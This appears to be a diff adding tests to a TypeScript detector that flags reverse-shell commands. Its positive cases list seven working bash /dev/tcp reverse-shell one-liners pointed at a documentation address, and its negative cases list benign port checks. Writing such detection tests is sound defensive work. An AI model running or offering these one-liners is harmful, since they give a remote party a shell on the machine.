@@ -137,3 +137,28 @@ test("as data: all that a reader needs, and no patterns", () => {
   });
   expect(JSON.stringify(data)).not.toContain('"match"');
 });
+
+describe("a shell and /dev/tcp", () => {
+  const handed = (line: string) =>
+    new Story()
+      .runs(9, ["/bin/bash", "-c", line])
+      .found()
+      .some(({ rule }) => rule.id === "reverse-shell-command");
+
+  test.each([
+    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+    "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
+    "/bin/sh </dev/tcp/203.0.113.9/4444 >&0 2>&0",
+    "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
+    "exec 3<>/dev/tcp/203.0.113.9/4444; exec 0<&3 1>&3; bash",
+    "exec 3<>/dev/tcp/203.0.113.9/80; cat <&3 | bash",
+    "exec </dev/tcp/203.0.113.9/80; sh",
+  ])("is handed over: %s", (line) => expect(handed(line)).toBe(true));
+
+  test.each([
+    "exec 3<>/dev/tcp/127.0.0.1/9",
+    "timeout 1 bash -c '</dev/tcp/db/5432'",
+    "until (echo > /dev/tcp/10.0.0.5/3306) >/dev/null 2>&1; do sleep 1; done",
+    "exec 3<>/dev/tcp/10.0.0.5/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+  ])("only talks: %s", (line) => expect(handed(line)).toBe(false));
+});
